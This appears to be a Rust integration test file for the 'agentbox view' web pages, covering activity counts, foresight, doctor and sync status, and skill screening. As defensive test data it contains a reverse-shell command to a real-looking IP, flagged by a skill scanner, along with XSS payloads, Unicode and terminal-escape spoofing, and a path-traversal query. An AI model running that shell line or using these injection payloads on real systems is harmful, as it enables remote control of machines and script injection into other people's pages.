//! The overview and skills pages of `agentbox view`, driven through the real
//! binary: what a person sees on `/`, `/skills` and `/skills/skill`, and the
//! `track activity` verb the overview's chart reads.

use crate::common::view::View;
use crate::common::{Sandbox, err_of, ok_data};
use std::fs;
use std::path::Path;

fn record(sb: &Sandbox, session: &str, at: &str, content: &str) {
    sb.agentbox(&[
        "track",
        "record",
        "--session",
        session,
        "--at",
        at,
        "--content",
        content,
    ])
    .assert()
    .success();
}

fn copy_dir(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).unwrap();
        }
    }
}

fn fixture(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/skills/malicious")
        .join(name)
}

#[test]
fn track_activity_counts_turns_per_day_and_session_from_the_index() {
    let sb = Sandbox::new();
    record(&sb, "alpha", "2026-01-14T10:00:00Z", "first");
    record(&sb, "alpha", "2026-01-15T08:00:00Z", "second");
    record(&sb, "alpha", "2026-01-15T09:00:00Z", "third");
    record(&sb, "beta", "2026-01-15T09:10:00Z", "fourth");
    record(&sb, "gamma", "2025-12-01T09:10:00Z", "long ago");
    let data = ok_data(&mut sb.agentbox(&[
        "track",
        "activity",
        "--days",
        "3",
        "--sessions",
        "1",
        "--format",
        "json",
    ]));
    assert_eq!(
        data["days"],
        serde_json::json!(["2026-01-13", "2026-01-14", "2026-01-15"])
    );
    assert_eq!(
        data["sessions"],
        serde_json::json!([{"session": "alpha", "turns": 3, "by_day": [0, 1, 2]}])
    );
    assert_eq!(
        data["others"],
        serde_json::json!({"sessions": 1, "turns": 1, "by_day": [0, 0, 1]})
    );
    assert_eq!(data["turns"], 4);
    assert_eq!(
        data["total"],
        serde_json::json!({"turns": 5, "sessions": 3, "undated": 0})
    );
    err_of(
        &mut sb.agentbox(&["track", "activity", "--days", "0", "--format", "json"]),
        "invalid_args",
        2,
    );
}

#[test]
fn the_overview_shows_counts_activity_foresight_doctor_and_sync() {
    let sb = Sandbox::new();
    record(&sb, "alpha", "2026-01-14T10:00:00Z", "first");
    record(&sb, "alpha", "2026-01-15T08:00:00Z", "second");
    record(&sb, "<b>beta", "2026-01-15T09:00:00Z", "third");
    sb.agentbox(&[
        "proactive",
        "add",
        "Call the dentist",
        "--due",
        "2026-01-15T18:00:00Z",
    ])
    .assert()
    .success();
    sb.agentbox(&[
        "proactive",
        "add",
        "Renew the passport",
        "--due",
        "2026-02-01",
    ])
    .assert()
    .success();
    let view = View::start(&sb, &[]);
    let page = view.page("/");
    assert!(page.contains("data-page=\"overview\""), "{page}");
    // counts: from the index's totals
    assert!(
        page.contains("<div data-count=\"turns\"><dt><a href=\"/memory\">turns</a></dt><dd>3</dd>"),
        "{page}"
    );
    assert!(page.contains("data-count=\"sessions\""), "{page}");
    // the chart: an SVG with a title, a band per session and day
    assert!(page.contains("<svg class=\"chart stacked\""), "{page}");
    assert!(page.contains("<title>Turns per day and session"), "{page}");
    assert!(
        page.contains("<title>alpha · 2026-01-15: 1</title>"),
        "{page}"
    );
    assert!(
        page.contains("<title>alpha · 2026-01-14: 1</title>"),
        "{page}"
    );
    // a hostile session name is text, in the chart and its legend
    assert!(page.contains("&lt;b&gt;beta · 2026-01-15: 1"), "{page}");
    assert!(!page.contains("<b>beta"), "{page}");
    // due and upcoming foresight, each once
    let due = page.find("class=\"due-item\"").expect("a due item");
    assert!(page[due..].contains("Call the dentist"), "{page}");
    let upcoming = page
        .find("class=\"upcoming-item\"")
        .expect("an upcoming item");
    assert!(page[upcoming..].contains("Renew the passport"), "{page}");
    assert_eq!(page.matches("Call the dentist").count(), 1, "{page}");
    // doctor's verdict, and sync plainly off (not an error)
    assert!(page.contains("All checks pass."), "{page}");
    assert!(page.contains("Sync is not set up"), "{page}");
    assert!(!page.contains("role=\"alert\""), "{page}");
}

#[test]
fn the_overview_shows_doctor_problems_and_sync_state() {
    let sb = Sandbox::new();
    // a plan file that does not parse fails doctor's plans check
    fs::write(sb.home().join("plans").join("broken.json"), "{ not json").unwrap();
    ok_data(&mut sb.agentbox(&["sync", "init", "--format", "json"]));
    let view = View::start(&sb, &[]);
    let page = view.page("/");
    assert!(page.contains("problem(s):"), "{page}");
    assert!(page.contains("<strong>plans</strong>"), "{page}");
    assert!(!page.contains("Sync is not set up"), "{page}");
    assert!(page.contains("No remote"), "{page}");
    assert!(page.contains("No conflicts."), "{page}");
}

#[test]
fn the_skills_pages_bind_each_verdict_to_its_hash_and_show_the_findings() {
    let sb = Sandbox::new();
    ok_data(&mut sb.agentbox(&[
        "skill_forge",
        "new",
        "release-notes",
        "--description",
        "Write release notes from merged pull requests.",
        "--format",
        "json",
    ]));
    let clean =
        ok_data(&mut sb.agentbox(&["skill_forge", "screen", "release-notes", "--format", "json"]));
    assert_eq!(clean["verdict"], "pass");
    let clean_hash = clean["content_hash"].as_str().unwrap().to_string();
    let bad_dir = sb.home().join("skills").join("bash-net-check");
    copy_dir(&fixture("bash-net-check"), &bad_dir);
    let bad = ok_data(&mut sb.agentbox(&[
        "skill_forge",
        "screen",
        "bash-net-check",
        "--format",
        "json",
    ]));
    assert_eq!(bad["verdict"], "fail");
    let bad_hash = bad["content_hash"].as_str().unwrap().to_string();

    let view = View::start(&sb, &[]);
    let list = view.page("/skills");
    let article = |name: &str| -> String {
        let at = list
            .find(&format!(
                "<article class=\"skill card\" data-name=\"{name}\">"
            ))
            .unwrap_or_else(|| panic!("no article for {name}: {list}"));
        let end = at + list[at..].find("</article>").unwrap();
        list[at..end].to_string()
    };
    let good = article("release-notes");
    assert!(
        good.contains("<span class=\"verdict ok\">pass</span>"),
        "{good}"
    );
    assert!(good.contains(&format!("title=\"{clean_hash}\"")), "{good}");
    assert!(good.contains("the files still match"), "{good}");
    let evil = article("bash-net-check");
    assert!(
        evil.contains("<span class=\"verdict bad\">fail</span>"),
        "{evil}"
    );
    assert!(
        evil.contains(&format!("class=\"hash\" title=\"{bad_hash}\"")),
        "{evil}"
    );
    assert!(list.contains("Installed in host agents"), "{list}");

    let page = view.page("/skills/skill?name=bash-net-check");
    assert!(page.contains("data-page=\"skills\""), "{page}");
    assert!(page.contains(&format!("title=\"{bad_hash}\"")), "{page}");
    assert!(page.contains("class=\"ok matches\""), "{page}");
    let table = &page[page
        .find("<table class=\"findings\">")
        .expect("findings table")..];
    assert!(
        table.contains("<td class=\"file\">scripts/check.sh</td>"),
        "{table}"
    );
    assert!(table.contains("<td class=\"line\">9</td>"), "{table}");
    assert!(table.contains("revshell-dev-tcp"), "{table}");
    assert!(
        table.contains("bash -i &gt;&amp; /dev/tcp/91.92.241.17/443"),
        "{table}"
    );
    // the flow: from the instruction in SKILL.md to the script's line
    assert!(
        table.contains("<td class=\"source\">SKILL.md:8<pre>"),
        "{table}"
    );
    assert!(
        table.contains("<td class=\"sink\">scripts/check.sh:3<pre>"),
        "{table}"
    );

    let good_page = view.page("/skills/skill?name=release-notes");
    assert!(good_page.contains("No findings."), "{good_page}");
    assert!(good_page.contains("class=\"ok matches\""), "{good_page}");

    // an edit after the screen: the verdict is about other files now
    fs::write(bad_dir.join("scripts").join("extra.sh"), "echo hi\n").unwrap();
    let page = view.page("/skills/skill?name=bash-net-check");
    assert!(page.contains("class=\"bad changed\""), "{page}");
    assert!(page.contains("changed since screening"), "{page}");
    assert!(page.contains("scripts/extra.sh"), "{page}");
    let list = view.page("/skills");
    assert!(list.contains("the files changed since"), "{list}");
}

#[test]
fn a_hostile_skill_renders_inert_and_an_unknown_one_is_404() {
    let sb = Sandbox::new();
    let dir = sb.home().join("skills").join("hostile");
    fs::create_dir_all(&dir).unwrap();
    fs::write(
        dir.join("SKILL.md"),
        "---\nname: hostile\ndescription: \"<script>alert(1)</script> x\u{202E}gpj.exe\"\n---\n\n\u{1b}[31mred\n\
         # <img src=x onerror=alert(2)>\n\n[click](javascript:alert(3))\n<script>alert(4)</script>\n\
         \u{202E}reversed \u{1b}]0;title\u{7}\n",
    )
    .unwrap();
    let view = View::start(&sb, &[]);
    for path in ["/skills", "/skills/skill?name=hostile"] {
        let page = view.page(path);
        assert!(
            page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{path}: {page}"
        );
        assert!(!page.contains("<script"), "{path}: {page}");
        assert!(!page.contains("<img"), "{path}: {page}");
        assert!(!page.contains("href=\"javascript:"), "{path}: {page}");
        assert!(!page.contains('\u{202E}'), "{path}: {page}");
        assert!(!page.contains('\u{1b}'), "{path}: {page}");
        assert!(page.contains("⟨U+202E⟩"), "{path}: {page}");
    }
    let page = view.page("/skills/skill?name=hostile");
    assert!(page.contains("⟨U+001B⟩[31mred"), "{page}");
    assert!(
        page.contains("javascript:alert(3)"),
        "shown as text: {page}"
    );
    assert!(page.contains("Never screened"), "{page}");

    let missing = view.get("/skills/skill?name=nope");
    assert_eq!(missing.status, 404, "{}", missing.text());
    let text = missing.text();
    assert!(
        text.contains("<section class=\"error\" role=\"alert\">"),
        "{text}"
    );
    assert!(text.contains("no skill"), "{text}");
    // a name that is no skill name at all is refused, not looked up
    let odd = view.get("/skills/skill?name=..%2F..%2Fconfig");
    assert!(odd.status == 400 || odd.status == 404, "{}", odd.text());
}
